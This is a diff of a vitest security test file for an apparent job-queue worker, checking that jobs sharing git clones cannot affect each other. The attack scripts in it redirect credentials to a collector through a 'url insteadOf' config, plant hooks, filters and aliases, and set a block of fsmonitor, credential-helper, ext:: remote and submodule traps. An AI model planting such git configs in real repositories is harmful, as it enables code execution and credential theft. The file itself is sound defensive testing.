@@ -1,63 +1,241 @@
-import { chmod, mkdir, readFile } from 'node:fs/promises';
-import { dirname, join } from 'node:path';
+import { execFileSync } from 'node:child_process';
+import { access, readdir, readFile } from 'node:fs/promises';
+import { join } from 'node:path';
 import { afterAll, beforeAll, expect, test } from 'vitest';
-import { createJob } from '../../../lib/jobs/create-job.ts';
-import type { Job } from '../../../lib/jobs/job.ts';
-import { transition } from '../../../lib/jobs/transition.ts';
-import { runAttempt } from '../../../worker-container/attempt.ts';
 import type { ServiceAccount } from '../../../worker-container/service-accounts/service-account.ts';
-import { type EmulatedDeployment, emulateDeployment } from '../../emulated-deployment.ts';
-import { openWorker } from '../../emulated-worker.ts';
 import { type GitServer, startGitServer } from '../../git-server.ts';
 import { describeAsRoot, newAccounts } from './as-root.ts';
+import { attackAs, openSlots, printedAs, type SlotsOfARepository, startCollector } from './slots-of-a-repository.ts';
+
+const TOKEN = 's3cret-token-of-the-project';
+/** The clones that a job of another slot tries to steer. */
+const CLONES = 'ls -d $W/.repositories/*/*.git $W/.repositories/*.git 2> /dev/null';
 
 describeAsRoot('jobs of one repository', () => {
   const [first, second] = newAccounts(2).slots as [ServiceAccount, ServiceAccount];
-  let deployment: EmulatedDeployment;
-  let opened: Awaited<ReturnType<typeof openWorker>>;
+  let slots: SlotsOfARepository;
   let repository: GitServer;
+  let guarded: GitServer;
+  const secrets = new Map<string, string>();
   beforeAll(async () => {
-    [deployment, repository] = await Promise.all([emulateDeployment(), startGitServer()]);
-    opened = await openWorker(deployment);
-    // The folder of an emulated deployment is private to its user; a container's folders are not.
-    await chmod(dirname(opened.worker.env.PROMPTQ_WORKSPACES), 0o711);
-    await mkdir(opened.worker.env.PROMPTQ_WORK_DIR, { mode: 0o711 });
+    [slots, repository, guarded] = await Promise.all([
+      openSlots(secrets),
+      startGitServer(),
+      startGitServer({ credentials: `bot:${TOKEN}` }),
+    ]);
+    secrets.set('GUARDED', guarded.url.replace('//', `//bot:${TOKEN}@`));
     await repository.commit({ 'README.md': 'one\n' });
+    await guarded.commit({ 'README.md': 'one\n' });
   });
-  afterAll(async () => await Promise.all([deployment.stop(), repository.close()]));
+  afterAll(async () => await Promise.all([slots.stop(), repository.close(), guarded.close()]));
 
-  async function start(prompt: string): Promise<Job> {
-    const { id } = await createJob(opened.creation, { prompt, project: 'app' }, 'token:test');
-    return await read(id);
-  }
-  async function read(id: string): Promise<Job> {
-    const job = await deployment.jobs.get(id, { consistent: true });
-    if (job === undefined) throw new Error('there is no such job');
-    return job;
-  }
-  /** Runs a job's next attempt under an account. */
-  async function run(job: Job, account: ServiceAccount): Promise<Job> {
-    const held = await deployment.permits.receive('normal', 5);
-    const claimed = await transition(deployment, job, { type: 'claim', workerId: opened.worker.workerId });
-    if (held === undefined || !claimed.done) throw new Error('the job was not to be had');
-    const { env } = opened.worker;
-    await runAttempt({ ...opened.worker, account }, claimed.job, held, new AbortController().signal);
-    const ended = await read(job.id);
-    expect(await readFile(join(env.PROMPTQ_WORKSPACES, 'app', job.id, 'uid'), 'utf8')).toBe(`${account.uid}\n`);
-    return ended;
-  }
+  const isThere = async (path: string) =>
+    await access(path).then(
+      () => true,
+      () => false,
+    );
+  /** Names the clones and the workspaces to a script. */
+  const inClones = (script: string) => `W=${slots.workspaces}; cd $W; ${script}`;
 
-  test("go on in each other's clone, and a retry in a worktree that another slot has made", async () => {
-    const draft = await start('id -u > uid; echo 1 >> README.md; git commit -qam one && git gc -q && exit 3');
-    await deployment.projectSettings.change('app', { repository: repository.url, setup: 'id -u > set-up-by' });
-    const failed = await run(draft, first);
+  test('go on in one clone, and a retry in a worktree that another slot has made', async () => {
+    await slots.setProject('app', { repository: repository.url, setup: 'id -u > set-up-by' });
+    const uidIn = async (job: Parameters<typeof slots.folderOf>[0], name: string) =>
+      Number(await readFile(join(slots.folderOf(job), name), 'utf8'));
+    const failed = await slots.runNew(
+      'id -u > uid; echo 1 >> README.md; git commit -qam one && git gc -q && exit 3',
+      first,
+    );
     expect([failed.status, failed.exit_code, failed.attempt_warnings]).toEqual(['FAILED', 3, undefined]);
-    const next = await start('id -u > uid; echo 2 >> README.md; git commit -qam two');
-    const { status, attempt_warnings } = await run(next, second);
-    expect([status, attempt_warnings]).toEqual(['SUCCEEDED', undefined]);
-    const again = await transition(deployment, failed, { type: 'retry' });
-    if (!again.done) throw new Error(again.refused);
-    const retried = await run(again.job, second);
+    expect(await uidIn(failed, 'uid')).toBe(first.uid);
+    const next = await slots.runNew('id -u > uid; echo 2 >> README.md; git commit -qam two', second);
+    expect([next.status, next.attempt_warnings, await uidIn(next, 'uid')]).toEqual([
+      'SUCCEEDED',
+      undefined,
+      second.uid,
+    ]);
+    const retried = await slots.retry(failed, second);
     expect([retried.status, retried.exit_code, retried.attempt_warnings]).toEqual(['FAILED', 3, undefined]);
+    expect([await uidIn(failed, 'uid'), await uidIn(failed, 'set-up-by')]).toEqual([second.uid, first.uid]);
+    expect(await readFile(join(slots.folderOf(failed), 'README.md'), 'utf8')).toBe('one\n1\n1\n');
+    expect(retried.changes).toMatchObject({ branch: `promptq/${failed.id}`, files: 3, insertions: 4 });
+  });
+
+  test("have a project's credential given to its own host alone, whatever other slots do meanwhile", async () => {
+    const collector = await startCollector();
+    await slots.setProject('guarded', { repository: guarded.url, secret: 'GUARDED' });
+    expect(await slots.runNew('true', second, 'guarded')).toMatchObject({ status: 'SUCCEEDED' });
+    const host = new URL(guarded.url).origin;
+    const attack = await attackAs(
+      first,
+      inClones(`printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = true\\n[url "${collector.url}"]\\n\\tinsteadOf = ${host}/\\n' > ${slots.open}/evil
+        while :; do for d in $(${CLONES}); do cp ${slots.open}/evil $d/config.x && mv -f $d/config.x $d/config; done; done 2> /dev/null`),
+    );
+    const outcomes: string[] = [];
+    try {
+      for (let fetches = 0; fetches < 3; fetches += 1)
+        outcomes.push((await slots.runNew('cat README.md', second, 'guarded')).status);
+    } finally {
+      await attack.end();
+      collector.close();
+    }
+    expect(collector.given).toEqual([]);
+    expect(new Set(outcomes)).toEqual(new Set(['SUCCEEDED']));
+    expect(new Set(guarded.callers).size).toBe(1);
+  });
+
+  test("can write nothing that steers another's git", async () => {
+    await slots.setProject('closed', { repository: repository.url });
+    const theirs = await slots.runNew('git tag mine; true', second, 'closed');
+    const reached = inClones(`find .repositories closed/${theirs.id} -writable 2> /dev/null; echo looked`);
+    expect(await printedAs(first, reached)).toBe('looked\n');
+  });
+
+  test('run no hook that an earlier job has planted, nor what its attributes name', async () => {
+    await slots.setProject('hooks', { repository: repository.url });
+    const mark = join(slots.open, 'hooked');
+    const planted = await slots.runNew(
+      inClones(`cd -; for d in $(git rev-parse --git-common-dir) $(${CLONES}); do (
+          mkdir -p $d/hooks $d/info; printf '#!/bin/sh\\nid -u >> ${mark}\\n' > $d/hooks/post-commit
+          for h in pre-commit reference-transaction post-checkout; do cp $d/hooks/post-commit $d/hooks/$h; done
+          chmod +x $d/hooks/*; echo '* filter=x' > $d/info/attributes
+          git --git-dir $d config filter.x.clean 'id -u >> ${mark}; cat'
+          git --git-dir $d config alias.status '!id -u >> ${mark}'
+        ) 2> /dev/null; done; rm -f ${mark}; true`),
+      first,
+      'hooks',
+    );
+    expect(planted.status).toBe('SUCCEEDED');
+    const next = await slots.runNew(
+      'echo 2 > README.md; git commit -qam two; git status -s; git checkout -qb x',
+      second,
+      'hooks',
+    );
+    expect([next.status, next.changes?.files, await isThere(mark)]).toEqual(['SUCCEEDED', 1, false]);
+  });
+
+  test("have nothing of another slot's run in the worker's own calls", async () => {
+    await slots.setProject('ending', { repository: repository.url });
+    await slots.runNew('true', second, 'ending');
+    const mark = join(slots.open, 'filtered');
+    const attack = await attackAs(
+      first,
+      inClones(`printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = true\\n[filter "x"]\\n\\tclean = id -u >> ${mark}\\n' > ${slots.open}/filter
+        while :; do for d in $(${CLONES}); do mkdir -p $d/info; echo '* filter=x' > $d/info/attributes
+          cp ${slots.open}/filter $d/config.x && mv -f $d/config.x $d/config; done; done 2> /dev/null`),
+    );
+    try {
+      for (let jobs = 0; jobs < 3; jobs += 1) await slots.runNew('echo 2 > README.md', second, 'ending');
+    } finally {
+      await attack.end();
+    }
+    expect(await isThere(mark)).toBe(false);
+    expect(await slots.runNew('echo 2 > README.md', second, 'ending')).toMatchObject({ changes: { files: 1 } });
+  });
+
+  test("see the server's branches and tags, and their own, whatever another did to its", async () => {
+    await slots.setProject('refs', { repository: repository.url });
+    const commit = await repository.commit({ 'README.md': 'one\nmore\n' });
+    await slots.runNew(
+      inClones(`cd -; git commit -q --allow-empty -m mine
+        for d in $(git rev-parse --git-common-dir) $(${CLONES}); do (
+          git --git-dir $d update-ref refs/remotes/origin/main HEAD
+          git --git-dir $d update-ref refs/heads/main HEAD; git --git-dir $d update-ref refs/promptq/HEAD HEAD
+          git --git-dir $d tag planted HEAD; rm -rf $d/objects/*; echo /nowhere > $d/objects/info/alternates
+        ) > /dev/null 2>&1; done; true`),
+      first,
+      'refs',
+    );
+    const seen = await slots.runNew(
+      `git rev-parse HEAD origin/main > refs; git tag >> refs; git branch >> refs; cat refs; git fsck 2>&1; git log -1 --format=%s >> refs`,
+      second,
+      'refs',
+    );
+    expect(await readFile(join(slots.folderOf(seen), 'refs'), 'utf8')).toBe(
+      `${commit}\n${commit}\n* promptq/${seen.id}\nchange\n`,
+    );
+  });
+
+  test.each([
+    ['folder', 'its configuration is a folder', 'rm $d/config; mkdir $d/config; touch $d/config/x'],
+    ['head', 'it is no repository any more', 'rm -rf $d/HEAD'],
+    [
+      'object',
+      'an object is gone',
+      'o=$(git -c safe.directory=* --git-dir $d rev-parse refs/promptq/HEAD:README.md); rm $d/objects/??/$(echo $o | cut -c 3-)',
+    ],
+    [
+      'refs',
+      'its refs are no refs',
+      'rm -rf $d/packed-refs $d/refs/*; mkdir -p $d/refs/remotes/origin; echo x > $d/refs/remotes/origin/main',
+    ],
+    ['file', 'it is a file', 'rm -rf $d; echo x > $d'],
+  ])('work after their clone was broken (%s: %s)', async (name, _, breakIt) => {
+    const project = `broken-${name}`;
+    await slots.setProject(project, { repository: repository.url });
+    await slots.runNew('true', first, project);
+    const clones = (await readdir(join(slots.workspaces, '.repositories'))).filter((name) => name.startsWith(project));
+    expect(clones).toHaveLength(1);
+    // As root: no job can do this any more where slots have accounts.
+    execFileSync('bash', ['-c', inClones(`for d in $(${CLONES} | grep /${project}-); do ${breakIt}; done`)]);
+    const next = await slots.runNew('echo 2 > README.md; git commit -qam two', second, project);
+    expect([next.status, next.changes?.files]).toEqual(['SUCCEEDED', 1]);
+    expect(next.attempt_warnings).toEqual([expect.stringContaining('the kept clone was broken')]);
+    const after = await slots.runNew('git fsck > fsck 2>&1', first, project);
+    expect([after.status, after.attempt_warnings]).toEqual(['SUCCEEDED', undefined]);
+  });
+
+  test('free a clone that a fetch which died has left locked', async () => {
+    await slots.setProject('locked', { repository: repository.url });
+    await slots.runNew('true', first, 'locked');
+    await repository.commit({ 'README.md': 'one\nlocked\n' });
+    const lock = 'for d in $W/.repositories/locked-*/*.git; do touch $d/packed-refs.lock; done';
+    execFileSync('bash', ['-c', inClones(lock)]);
+    const next = await slots.runNew('true', second, 'locked');
+    expect([next.status, next.attempt_warnings]).toEqual([
+      'SUCCEEDED',
+      ['repository: the kept clone was locked by a fetch that had died'],
+    ]);
+  });
+
+  test('begin again beside what an earlier attempt left that was no worktree of the repository', async () => {
+    const job = await slots.runNew('echo kept > kept; false', first, 'turned');
+    await slots.setProject('turned', { repository: repository.url });
+    const retried = await slots.retry(job, second);
+    expect([retried.attempt_warnings, retried.changes?.branch]).toEqual([
+      [`repository: the job's folder was no worktree of it; what was there is kept in ${job.id}.earlier`],
+      `promptq/${job.id}`,
+    ]);
+    expect(await readFile(join(`${slots.folderOf(job)}.earlier`, 'kept'), 'utf8')).toBe('kept\n');
+    expect((await slots.retry(retried, first)).attempt_warnings).toBeUndefined();
+  });
+
+  const TRAPS = `
+    cp README.md before; trap="touch ${'$'}SPRUNG"
+    c() { git config "$@"; }
+    c core.fsmonitor "$trap"; c core.sshCommand "$trap"; c core.pager "$trap"; c core.editor "$trap"; c core.hooksPath $PWD/.hooks
+    c diff.external "$trap"; c diff.d.textconv "$trap"; c diff.d.command "$trap"; c filter.f.clean "$trap"; c filter.f.smudge "$trap"
+    c filter.lfs.process "$trap"; c filter.lfs.clean "$trap"; c filter.lfs.required true
+    c remote.p.url "ext::$trap"; c remote.p.promisor true; c extensions.partialClone p; c core.repositoryFormatVersion 1
+    c protocol.ext.allow always; c credential.helper "!$trap"; c alias.diff "!$trap"; c alias.rev-parse "!$trap"
+    printf '[core]\\n\\tfsmonitor = %s\\n' "$trap" > .included; c include.path $PWD/.included
+    mkdir .hooks; for h in post-index-change reference-transaction pre-commit post-checkout; do printf '#!/bin/sh\\n%s\\n' "$trap" > .hooks/$h; chmod +x .hooks/$h; done
+    mkdir -p .git/hooks .git/info; cp .hooks/* .git/hooks/; echo '* filter=f diff=d' > .git/info/attributes
+    printf '* filter=lfs diff=d\\n' > .gitattributes
+    git init -q sub; (cd sub; PATH=/usr/bin:/bin; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m s; echo x > x; git add x
+      git config filter.f.clean "$trap"; git config core.fsmonitor "$trap"; echo '* filter=f' > .git/info/attributes; echo y > x)
+    printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = ./sub\\n\\tupdate = !%s\\n' "$trap" > .gitmodules; c submodule.sub.update "!$trap"
+    echo changed > README.md; rm -rf \${SPRUNG}*; true`;
+
+  test('that plant all they can in their own repository have none of it run when they have ended', async () => {
+    await slots.setProject('traps', { repository: repository.url });
+    const sprung = join(slots.open, 'sprung');
+    const job = await slots.runNew(`SPRUNG=${sprung}; ${TRAPS}`, first, 'traps');
+    expect([job.status, job.attempt_warnings]).toEqual(['SUCCEEDED', undefined]);
+    expect(job.changes).toMatchObject({ branch: `promptq/${job.id}`, base: job.changes?.head });
+    expect(job.changes?.stat).toContain('README.md');
+    expect(await isThere(sprung)).toBe(false);
+    // Later attempts begin by it, and other jobs too.
+    expect(await slots.runNew('true', second, 'traps')).toMatchObject({ status: 'SUCCEEDED', changes: { files: 0 } });
+    expect(await isThere(sprung)).toBe(false);
   });
 });
